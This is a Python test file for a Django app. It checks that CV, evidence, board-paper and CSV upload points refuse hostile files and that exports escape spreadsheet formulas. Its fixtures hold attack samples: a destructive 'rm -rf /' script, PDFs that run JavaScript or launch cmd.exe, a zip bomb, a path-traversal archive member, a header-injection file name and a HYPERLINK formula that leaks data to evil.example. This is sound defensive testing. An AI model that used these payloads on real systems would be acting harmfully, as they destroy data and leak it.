"""Hostile files through every upload point: each is refused with a clear message and nothing is stored.

Upload points: a key person's CV (service and POST /api/people/nominations/), a Production Hub CV (a call for
CVs and the PMP's proposal), mobilisation deliverable evidence, Board papers, a client instruction's
documents, a periodic instruction's profile (all through ``alliance.documents.document_content_type``), and the
CSV imports (supplier spend, schemes, scores; ``alliance.csvfiles``) with the CSV exports that give text back.
"""

# ruff: noqa: F811 -- the people app's fixtures are imported by name (below) and then used as arguments.
from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.urls import reverse
from django.utils import timezone

from alliance import documents
from alliance.csvfiles import (
    CSV_MAX_BYTES,
    ERR_CSV_LINE,
    ERR_CSV_SIZE,
    csv_writer,
    spreadsheet_safe,
)
from allocation.models import Scheme
from allocation.services import packages as allocation_services
from governance.models import Paper
from governance.services import board as gov
from mobilisation.models import Deliverable, DeliverableEvidence
from mobilisation.services import deliverables as mob
from mobilisation.services.deliverables import ERR_DELIVERABLE_EVIDENCE_TYPE
from people.models import Nomination
from people.services import hub, key_persons
from people.services.cvs import CV_MAX_BYTES, ERR_CV_EMPTY, ERR_CV_SIZE, ERR_CV_TYPE
from performance.models import Score
from performance.services import scorecard as performance_services
from supplychain.models import Spend
from supplychain.services import suppliers as supplychain_services
from tests.conftest import TODAY
from tests.pdf_samples import PAGES, pdf_bytes
from tests.people.conftest import catalogue, people, role, service  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db

DOCX_TYPES = "[Content_Types].xml"
WORD_MAIN = "word/document.xml"


# --- Hostile files, built small (an oversized one is a sparse temporary file) ----------------------------------
def _zip(members: dict[str, bytes], *, prefix: bytes = b"", compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    buffer.write(prefix)
    with zipfile.ZipFile(buffer, "a" if prefix else "w", compression) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def _docx(extra: dict[str, bytes] | None = None, content_types: bytes = b"<Types/>") -> bytes:
    return _zip({DOCX_TYPES: content_types, WORD_MAIN: b"<w:document/>", **(extra or {})})


@functools.cache
def _zip_bomb() -> bytes:
    """A .docx whose one member unpacks to 150 MB of zeros (about 150 KB packed), written in 1 MB steps."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(DOCX_TYPES, "<Types/>")
        archive.writestr(WORD_MAIN, "<w:document/>")
        with archive.open("word/media/image1.png", "w", force_zip64=True) as member:
            block = bytes(1024 * 1024)
            for _ in range(150):
                member.write(block)
    return buffer.getvalue()


def _pdf(catalog: bytes = b"", **objects: bytes) -> bytes:
    """A genuine one-page PDF (a cross-reference a PDF library reads) with ``catalog`` in its catalog."""
    return pdf_bytes({**PAGES, 1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
                      **{int(number.lstrip("o")): body for number, body in objects.items()}})


def _pdf_objstm_js(filters: tuple[str, ...] = ("FlateDecode",)) -> bytes:
    """JavaScript hidden in a compressed (or hex-encoded) object stream: invisible to a scan of the raw bytes."""
    return pdf_bytes({**PAGES, 1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"},
                     packed={4: b"<</S/JavaScript/JS(app.alert(1))>>"}, filters=filters)


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 64
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'

# (id, name, content, which message: "type", "size" or "empty" of the upload point, or a module constant)
HOSTILE = [
    ("empty", "cv.pdf", lambda: b"", "empty"),
    ("elf-named-pdf", "cv.pdf", lambda: ELF, "type"),
    ("elf-named-docx", "cv.docx", lambda: ELF, "type"),
    ("pe-named-pdf", "cv.pdf", lambda: PE, "type"),
    ("pe-named-docx", "cv.docx", lambda: PE, "type"),
    ("shell-script-named-pdf", "cv.pdf", lambda: b"#!/bin/sh\nrm -rf / --no-preserve-root\n", "type"),
    ("html-named-pdf", "cv.pdf", lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>", "type"),
    ("svg-with-script", "cv.svg", lambda: SVG, "type"),
    ("svg-with-script-named-pdf", "cv.pdf", lambda: SVG, "type"),
    ("gif-js-polyglot", "cv.pdf", lambda: b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00*/=1;alert(1)//;", "type"),
    ("pdf-with-zip-appended", "cv.pdf", lambda: _pdf() + _docx(), documents.ERR_DOCUMENT_POLYGLOT),
    ("zip-starting-with-pdf-header", "cv.pdf", lambda: _zip({"a.txt": b"x" * 100}, prefix=b"%PDF-1.4\n%%EOF\n"),
     documents.ERR_DOCUMENT_POLYGLOT),
    ("pdf-openaction-javascript", "cv.pdf", lambda: _pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
     documents.ERR_DOCUMENT_PDF_JAVASCRIPT),
    ("pdf-openaction-launch", "cv.pdf", lambda: _pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
     documents.ERR_DOCUMENT_PDF_LAUNCH),
    ("pdf-openaction-uri", "cv.pdf", lambda: _pdf(b"/OpenAction<</S/URI/URI(https://tracker.example/)>>"),
     documents.ERR_DOCUMENT_PDF_AUTOMATIC_ACTION),
    ("pdf-embedded-file", "cv.pdf",
     lambda: _pdf(b"/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>", o4=b"<</Type/Filespec/EF<</F 5 0 R>>>>",
                  o5=b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"),
     documents.ERR_DOCUMENT_PDF_EMBEDDED_FILE),
    ("pdf-rich-media", "cv.pdf", lambda: _pdf(b"/Extra[<</Type/Annot/Subtype/RichMedia>>]"),
     documents.ERR_DOCUMENT_PDF_MEDIA),
    ("pdf-javascript-name-escaped", "cv.pdf", lambda: _pdf(b"/OpenAction<</S/J#61vaScript/J#53(x)>>"),
     documents.ERR_DOCUMENT_PDF_JAVASCRIPT),
    ("pdf-javascript-in-compressed-object-stream", "cv.pdf", _pdf_objstm_js, documents.ERR_DOCUMENT_PDF_JAVASCRIPT),
    ("pdf-javascript-in-asciihex-object-stream", "cv.pdf", lambda: _pdf_objstm_js(("ASCIIHexDecode",)),
     documents.ERR_DOCUMENT_PDF_JAVASCRIPT),
    ("pdf-truncated-no-eof", "cv.pdf", lambda: _pdf()[:-7], documents.ERR_DOCUMENT_PDF_TRUNCATED),
    ("pdf-unreadable", "cv.pdf", lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n",
     documents.ERR_DOCUMENT_PDF_UNREADABLE),
    ("docx-zip-bomb", "cv.docx", _zip_bomb, documents.ERR_DOCUMENT_ARCHIVE),
    ("docx-too-many-members", "cv.docx",
     lambda: _docx({f"word/p{i}.xml": b"" for i in range(documents.ZIP_MAX_MEMBERS)}), documents.ERR_DOCUMENT_ARCHIVE),
    ("docx-member-path-traversal", "cv.docx", lambda: _docx({"../../etc/cron.d/evil": b"* * * * * root sh"}),
     documents.ERR_DOCUMENT_ARCHIVE),
    ("docx-member-absolute-path", "cv.docx", lambda: _docx({"/etc/passwd": b"root:x:0:0"}),
     documents.ERR_DOCUMENT_ARCHIVE),
    ("plain-zip-named-docx", "cv.docx", lambda: _zip({"notes.txt": b"hello", DOCX_TYPES: b"<Types/>"}), "type"),
    ("docm-with-macros-named-docx", "cv.docx",
     lambda: _docx({"word/vbaProject.bin": OLE2},
                   content_types=b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.'
                                 b'main+xml" PartName="/word/document.xml"/></Types>'),
     documents.ERR_DOCUMENT_MACROS),
    ("ole2-doc", "cv.doc", lambda: OLE2, "type"),
    ("ole2-doc-named-docx", "cv.docx", lambda: OLE2, "type"),
    ("double-extension-exe", "cv.pdf.exe", _pdf,
     documents.ERR_DOCUMENT_EXTENSION.format(extension="exe", kind="PDF", expected="pdf")),
    ("nul-in-name", "cv\x00.pdf", _pdf, documents.ERR_DOCUMENT_NAME),
    ("line-break-in-name", "cv\r\nSet-Cookie: a=b.pdf", _pdf, documents.ERR_DOCUMENT_NAME),
]


# --- Upload points ------------------------------------------------------------------------------------------------
class Point:
    """One way a file enters the app: ``send(upload)`` returns the refusal's message (or raises on acceptance),
    ``stored()`` counts the rows that could hold it."""

    messages: dict[str, str]
    max_bytes: int

    def __init__(self, people, role, service, client_for):
        self.people, self.role, self.service, self.client_for = people, role, service, client_for

    def send(self, upload) -> str:
        try:
            self.call(upload)
        except ValidationError as error:
            return " ".join(m for ms in error.message_dict.values() for m in ms)
        raise AssertionError(f"{type(self).__name__} accepted a hostile file")

    def accept(self, upload):
        return self.call(upload)


class KeyPersonCv(Point):
    messages = {"type": ERR_CV_TYPE, "size": ERR_CV_SIZE, "empty": ERR_CV_EMPTY}
    max_bytes = CV_MAX_BYTES

    def call(self, upload):
        return key_persons.nomination_submit(actor=self.people["wsp-staff"], role=self.role("ded-director"),
                                                 person_name="Alex Morgan", full_time=True, cv=upload)

    def stored(self) -> int:
        return Nomination.objects.count()

    def stored_name(self, result) -> str:
        return result.cv.name


class KeyPersonCvApi(KeyPersonCv):
    def send(self, upload) -> str:
        response = self.client_for(self.people["wsp-staff"]).post("/api/people/nominations/", {
            "role": "ded-director", "person_name": "Alex Morgan", "full_time": "true", "cv": upload})
        assert response.status_code == 400, response.content[:500]
        return response.json()["detail"]

    def accept(self, upload):
        response = self.client_for(self.people["wsp-staff"]).post("/api/people/nominations/", {
            "role": "ded-director", "person_name": "Alex Morgan", "full_time": "true", "cv": upload})
        assert response.status_code == 201, response.content[:500]
        return Nomination.objects.get()


class HubCallCv(KeyPersonCv):
    @functools.cached_property
    def cv_call(self):
        am = self.people["alliance-manager"]
        return hub.call_issue(actor=am, alliance=am.organisation.alliance, title="PMO roles",
                                          roles="Risk manager", services=[self.service("risk-management")],
                                          closes_on=TODAY + dt.timedelta(days=14))

    def call(self, upload):
        return hub.call_cv_submit(actor=self.people["wsp-staff"], call=self.cv_call,
                                              hub_service=self.service("risk-management"), person_name="Ada",
                                              cv=upload)


class HubProposalCv(KeyPersonCv):
    @functools.cached_property
    def proposal(self):
        am = self.people["alliance-manager"]
        return hub.proposal_request(actor=am, alliance=am.organisation.alliance, title="Start")

    def call(self, upload):
        return hub.proposal_candidate_add(
            actor=self.people["fluor-staff"], proposal=self.proposal, hub_service=self.service("programme-management"),
            person_name="Ada", cv=upload)


class DeliverableEvidenceFile(Point):
    messages = {"type": ERR_DELIVERABLE_EVIDENCE_TYPE, "size": documents.ERR_DOCUMENT_SIZE,
                "empty": documents.ERR_DOCUMENT_EMPTY}
    max_bytes = documents.DOCUMENT_MAX_BYTES

    @functools.cached_property
    def deliverable(self):
        alliance = self.people["alliance-manager"].organisation.alliance
        mob.deliverables_seed(alliance)
        return Deliverable.objects.get(alliance=alliance, reference="MOB-05")

    def call(self, upload):
        return mob.evidence_add(actor=self.people["alliance-manager"], deliverable=self.deliverable,
                                title="Evidence", file=upload)

    def stored(self) -> int:
        return DeliverableEvidence.objects.count()

    def stored_name(self, result) -> str:
        return result.file.name


class BoardPaper(Point):
    messages = {"type": gov.ERR_PAPER_TYPE, "size": gov.ERR_PAPER_SIZE, "empty": documents.ERR_DOCUMENT_EMPTY}
    max_bytes = documents.DOCUMENT_MAX_BYTES

    @functools.cached_property
    def meeting(self):
        am = self.people["alliance-manager"]
        return gov.meeting_schedule(actor=am, alliance=am.organisation.alliance, title="Board", location="Leeds",
                                    starts_at=timezone.now() + dt.timedelta(days=3))

    def call(self, upload):
        return gov.paper_attach(actor=self.people["alliance-manager"], meeting=self.meeting, title="", upload=upload)

    def stored(self) -> int:
        return Paper.objects.count()

    def stored_name(self, result) -> str:
        return result.file.name


POINTS = {"key-person-cv": KeyPersonCv, "key-person-cv-api": KeyPersonCvApi, "hub-call-cv": HubCallCv,
          "hub-proposal-cv": HubProposalCv, "deliverable-evidence": DeliverableEvidenceFile,
          "board-paper": BoardPaper}


@pytest.fixture
def media(settings, tmp_path) -> Path:
    """Board papers and instruction documents go to the default storage: a temporary MEDIA_ROOT."""
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def _files(*roots) -> list[Path]:
    return [p for root in roots if Path(root).exists() for p in Path(root).rglob("*") if p.is_file()]


@pytest.fixture(params=list(POINTS), ids=list(POINTS))
def point(request, people, role, service, client_for, media):
    return POINTS[request.param](people, role, service, client_for)


# --- The tests ------------------------------------------------------------------------------------------------
# Every hostile file goes through the validator exactly as each upload point calls it (its accepted kinds, size
# limit and messages: no database needed), and a representative set goes through each point for real, which
# proves the point calls the validator before anything is written.
VALIDATOR_CALLS = {
    "key-person-and-hub-cv": dict(field="cv", kinds={"application/pdf", documents.OOXML["docx"]},
                                  type_error=ERR_CV_TYPE, size_error=ERR_CV_SIZE, max_bytes=CV_MAX_BYTES,
                                  empty_error=ERR_CV_EMPTY),
    "deliverable-evidence": dict(type_error=ERR_DELIVERABLE_EVIDENCE_TYPE),
    "board-paper": dict(type_error=gov.ERR_PAPER_TYPE, size_error=gov.ERR_PAPER_SIZE),
    "instruction-document-and-periodic-profile": dict(field="document"),
}


@pytest.mark.parametrize("call", list(VALIDATOR_CALLS))
@pytest.mark.parametrize(("name", "content", "expected"), [pytest.param(n, c, e, id=i) for i, n, c, e in HOSTILE])
def test_hostile_file_is_refused_by_the_shared_validator_with_a_clear_message(call, name, content, expected):
    kwargs = VALIDATOR_CALLS[call]
    messages = {"type": kwargs.get("type_error", documents.ERR_DOCUMENT_TYPE),
                "empty": kwargs.get("empty_error", documents.ERR_DOCUMENT_EMPTY)}
    with pytest.raises(ValidationError) as error:
        documents.document_content_type(SimpleUploadedFile(name, content()), **kwargs)
    assert error.value.message_dict == {kwargs.get("field", "file"): [messages.get(expected, expected)]}


REPRESENTATIVE = {"empty", "elf-named-pdf", "pdf-with-zip-appended", "pdf-openaction-javascript", "docx-zip-bomb",
                  "docm-with-macros-named-docx", "double-extension-exe", "nul-in-name", "pdf-truncated-no-eof",
                  "pdf-javascript-in-asciihex-object-stream", "pdf-openaction-uri", "pdf-unreadable"}


@pytest.mark.parametrize(("name", "content", "expected"),
                         [pytest.param(n, c, e, id=i) for i, n, c, e in HOSTILE if i in REPRESENTATIVE])
def test_hostile_file_is_refused_at_every_upload_point_and_nothing_is_stored(point, settings, media, name, content,
                                                                           expected):
    if isinstance(point, KeyPersonCvApi) and "\x00" in name:
        # Over HTTP, Django's multipart parser drops the NUL before any code of ours sees the name: the file is
        # a clean PDF, accepted under its cleaned display name and a random name on disk.
        nomination = point.accept(SimpleUploadedFile(name, content()))
        assert nomination.cv_name == "cv.pdf" and "cv" not in Path(nomination.cv.name).stem
        return
    message = point.send(SimpleUploadedFile(name, content(), content_type="application/pdf"))
    assert message == point.messages.get(expected, expected)
    assert point.stored() == 0
    assert _files(settings.PRIVATE_FILES_ROOT, media) == []


def _sparse_upload(name: str, size: int) -> TemporaryUploadedFile:
    """A PDF of ``size`` bytes that is mostly a hole in a temporary file: never held in memory."""
    upload = TemporaryUploadedFile(name, "application/pdf", size, None)
    upload.write(b"%PDF-1.7\n")
    upload.file.truncate(size - 7)
    upload.seek(size - 7)
    upload.write(b"\n%%EOF\n")
    upload.seek(0)
    return upload


def test_file_one_byte_over_the_limit_is_refused_and_nothing_is_stored(point, settings, media):
    upload = _sparse_upload("cv.pdf", point.max_bytes + 1)
    assert upload.size == point.max_bytes + 1
    if isinstance(point, KeyPersonCvApi):  # the test client reads the body into memory; the service is enough
        pytest.skip("covered through the service: the test client would buffer the whole body")
    assert point.send(upload) == point.messages["size"]
    assert point.stored() == 0
    assert _files(settings.PRIVATE_FILES_ROOT, media) == []
    upload.close()


def test_a_clean_pdf_named_with_a_path_is_accepted_and_stored_under_a_random_name(point, settings, media):
    result = point.accept(SimpleUploadedFile("../../etc/passwd.pdf", _pdf()))
    stored = point.stored_name(result)
    assert "passwd" not in stored and "etc" not in stored and ".." not in stored
    assert len(Path(stored).stem) == 32  # a random token
    files = _files(settings.PRIVATE_FILES_ROOT, media)
    assert len(files) == 1
    roots = [Path(settings.PRIVATE_FILES_ROOT).resolve(), Path(media).resolve()]
    assert any(files[0].resolve().is_relative_to(root) for root in roots)


@pytest.mark.parametrize(("name", "content", "kinds"), [
    ("Alex Morgan CV.docx", _docx, {"application/pdf", documents.OOXML["docx"]}),
    ("plan.pdf", _pdf, None),
    ("notes", _pdf, None),  # no extension: the content decides
])
def test_clean_documents_are_still_accepted(name, content, kinds):
    assert documents.document_content_type(SimpleUploadedFile(name, content()), kinds=kinds) in (
        "application/pdf", documents.OOXML["docx"])


# --- CSV uploads -----------------------------------------------------------------------------------------------------
@pytest.fixture
def package(people):
    return allocation_services.package_register(actor=people["sro"], code="RIS1", name="Road investment 1",
                                                notified_on=TODAY)


SCHEMES_HEADER = "code,name,scheme_type,region,pcf_stage,design_value,construction_value\n"
CSV_IMPORTS = {
    "supplier-spend": (lambda people, package, upload: supplychain_services.spend_from_csv(
        actor=people["alliance-manager"], upload=upload), Spend, "supplier,scheme,period,amount\n"),
    "schemes": (lambda people, package, upload: allocation_services.schemes_from_csv(
        actor=people["sro"], package=package, upload=upload), Scheme, SCHEMES_HEADER),
    "scores": (lambda people, package, upload: performance_services.scores_from_csv(
        actor=people["alliance-manager"], upload=upload), Score, "scheme,metric,period,score\n"),
}
UNREADABLE = "The file is not a readable CSV file (UTF-8)."


def _csv_cases(header: str):
    row = "A" * (1024 * 1024)  # one field over the csv module's 128 KB limit, under the 5 MB upload limit
    return [
        pytest.param(lambda: (header + "x,y,2026-Q3,1\n").encode("utf-16"), UNREADABLE, id="utf-16-with-bom"),
        pytest.param(lambda: (header + "x,y,2026-Q3,1\n").encode("utf-16-le"), UNREADABLE, id="utf-16-without-bom"),
        pytest.param(lambda: ELF, UNREADABLE, id="elf-named-csv"),
        pytest.param(lambda: OLE2, UNREADABLE, id="ole2-named-csv"),
        pytest.param(lambda: (header + row + "\n").encode(), ERR_CSV_LINE, id="one-megabyte-line"),
        pytest.param(lambda: b"x" * (CSV_MAX_BYTES + 1), ERR_CSV_SIZE, id="ten-megabyte-single-line"),
    ]


@pytest.mark.parametrize("kind", list(CSV_IMPORTS))
@pytest.mark.parametrize("case", range(6), ids=[p.id for p in _csv_cases("")])
def test_hostile_csv_is_refused_with_a_clear_message_and_nothing_is_stored(people, package, kind, case):
    send, model, header = CSV_IMPORTS[kind]
    content, expected = _csv_cases(header)[case].values
    body = content()
    if case == 5:
        body = b"x" * (10 * 1024 * 1024)  # the brief's 10 MB single line
    before = model.objects.count()
    with pytest.raises(ValidationError) as error:
        send(people, package, SimpleUploadedFile("data.csv", body, content_type="text/csv"))
    assert error.value.message_dict == {"file": [expected]}
    assert model.objects.count() == before


def test_the_spend_upload_page_refuses_utf16_without_a_server_error(people, client_for):
    body = "supplier,scheme,period,amount\nAcme,S1,2026-Q3,1\n".encode("utf-16")
    response = client_for(people["alliance-manager"]).post(
        reverse("supplychain-spend-upload"), {"file": SimpleUploadedFile("spend.csv", body)})
    assert response.status_code == 400
    assert UNREADABLE in response.content.decode()
    assert not Spend.objects.exists()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_spend_with_a_formula_for_a_supplier_is_refused(people):
    text = f'supplier,scheme,period,amount\n"{FORMULA.replace(chr(34), chr(34) * 2)}",S1,2026-Q3,1\n'
    with pytest.raises(ValidationError):
        supplychain_services.spend_from_csv(actor=people["alliance-manager"],
                                            upload=SimpleUploadedFile("spend.csv", text.encode()))
    assert not Spend.objects.exists()


def test_a_formula_stored_as_text_is_exported_escaped(people, package, client_for):
    """A scheme's name is free text: stored as typed, but the CSV export never hands a spreadsheet a formula."""
    quoted = FORMULA.replace('"', '""')
    text = SCHEMES_HEADER + f'M6-1,"{quoted}",smart_motorway,north-west,3,1200000,9000000\n'
    allocation_services.schemes_from_csv(actor=people["sro"], package=package,
                                         upload=SimpleUploadedFile("s.csv", text.encode()))
    assert Scheme.objects.get(code="M6-1").name == FORMULA
    response = client_for(people["sro"]).get(reverse("allocation-schemes-csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + FORMULA]


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-12.50", "-12.50"), ("+44", "+44"), ("Plain", "Plain"), (-3, -3),
    (None, None),
])
def test_spreadsheet_safe_escapes_formula_prefixes_but_not_numbers(value, safe):
    assert spreadsheet_safe(value) == safe
    out = io.StringIO()
    csv_writer(out).writerow([value])
    assert list(csv.reader(io.StringIO(out.getvalue())))[0][0] == ("" if safe is None else str(safe))


def test_every_csv_export_uses_the_shared_safe_writer():
    """A second check on the exports: no module but alliance/csvfiles.py builds a csv.writer itself."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for app in ("alliance", "governance", "allocation", "performance", "supplychain", "mobilisation"):
        for path in (root / app).rglob("*.py"):
            if path.name == "csvfiles.py" or "migrations" in path.parts:
                continue
            text = path.read_text()
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
